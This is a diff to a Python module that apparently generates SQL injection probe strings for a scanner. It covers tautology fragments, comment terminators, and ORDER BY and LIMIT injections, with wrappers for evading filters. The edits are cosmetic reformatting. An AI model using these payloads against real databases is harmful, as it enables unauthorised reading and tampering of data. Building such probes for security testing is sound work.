@@ -7,7 +7,7 @@ works is a comment; alone, each stands further behind, for filters that refuse o
 
 from __future__ import annotations
 
-from collections.abc import Iterable, Iterator, Sequence
+from collections.abc import Iterator, Sequence
 
 from probes.grammars import evasions
 from probes.grammars.placeholders import fields
@@ -23,7 +23,7 @@ _BRACKETS = (("",), (")", "))"))
 _BLANKS = ((" ",), ("/**/", "\n", "\t"), ("\f", "/* */ "))
 _COMMENTS = ((" --", "; --"), ("--", "/*", " -- -"), ("\0", "#", ";"))
 #: Without a comment: the value goes on so that the quote behind it finds its other half.
-_BALANCED = ((" OR Qz", "<>Q"), (" OR Qz"'Q=Qz', "ORQ1"))
+_BALANCED = ((" OR Qz", "<>Q"), (" OR QzQ=Qz", "ORQ1"))
 
 
 def values(ordinary: str, rests: Sequence[str], columns: Sequence[str] = ()) -> Iterator[str]:
@@ -125,7 +125,7 @@ def statements(further: Sequence[str]) -> Iterator[str]:
 
 
 #: A column at which sorting starts, and what may stand behind it where only a part of the text is looked at.
-_BEHIND_COLUMN = ((",", ", "), ("\n,", " COLLATE NOCASE,", " IS NULL,", " + 0,", "/**/,", "\",", "`,", "],"))
+_BEHIND_COLUMN = ((",", ", "), ("\n,", " COLLATE NOCASE,", " IS NULL,", " + 0,", "/**/,", '",', "`,", "],"))
 
 
 def orders(columns: Sequence[str], expressions: Sequence[str]) -> Iterator[str]:
@@ -133,13 +133,15 @@ def orders(columns: Sequence[str], expressions: Sequence[str]) -> Iterator[str]:
     for expression in expressions:
         for around in ("{}", " {}", "({})", "-{}", "{} --", "{}--", "{};", "{}/*", "+{}", "{}\0"):
             yield around.format(expression)
-    for column, behind, expression in ranked([[columns[0]], columns[1:]], _BEHIND_COLUMN, [[one] for one in expressions]):
+    for column, behind, expression in ranked(
+        [[columns[0]], columns[1:]], _BEHIND_COLUMN, [[one] for one in expressions]
+    ):
         opened = behind[-2] if behind.endswith(('",', "`,", "],")) else ""
         start = {"]": "["}.get(opened, opened)
         yield f"{expression}{behind}{column}" if not opened else f"x{opened},{expression},{start}{column}"
         yield f"{column}{opened}*0,{expression}{f',{start}{column}' if start else ''}"
     for column in columns:
-        yield from (f"{column} LIMIT 1 --", f"{column} LIMIT 1/*", f"{column}\" LIMIT 1 --", f"-{column}", f"{column}%2")
+        yield from (f"{column} LIMIT 1 --", f"{column} LIMIT 1/*", f'{column}" LIMIT 1 --', f"-{column}", f"{column}%2")
     for expression in expressions:
         yield from evasions.evading(expression)
 
@@ -149,8 +151,20 @@ def directions(expressions: Sequence[str], words: Sequence[str] = ("asc", "desc"
     for expression in expressions:
         for word in (*words, "ASC", ""):
             for around in (
-                "{} LIMIT 1 --", "*0,{}", ",{}", " , {}", "{} NULLS LAST, {}", "\n,{}", "{}/**/,{}", "{}\t,{}", "{} LIMIT 1/*",
-                "{} LIMIT 1;", "{} LIMIT 2 OFFSET 1 --", "{}\nLIMIT 1--", "{},{} --", " {}, {}",
+                "{} LIMIT 1 --",
+                "*0,{}",
+                ",{}",
+                " , {}",
+                "{} NULLS LAST, {}",
+                "\n,{}",
+                "{}/**/,{}",
+                "{}\t,{}",
+                "{} LIMIT 1/*",
+                "{} LIMIT 1;",
+                "{} LIMIT 2 OFFSET 1 --",
+                "{}\nLIMIT 1--",
+                "{},{} --",
+                " {}, {}",
             ):
                 yield _filled(around, word, expression)
     for word in words:
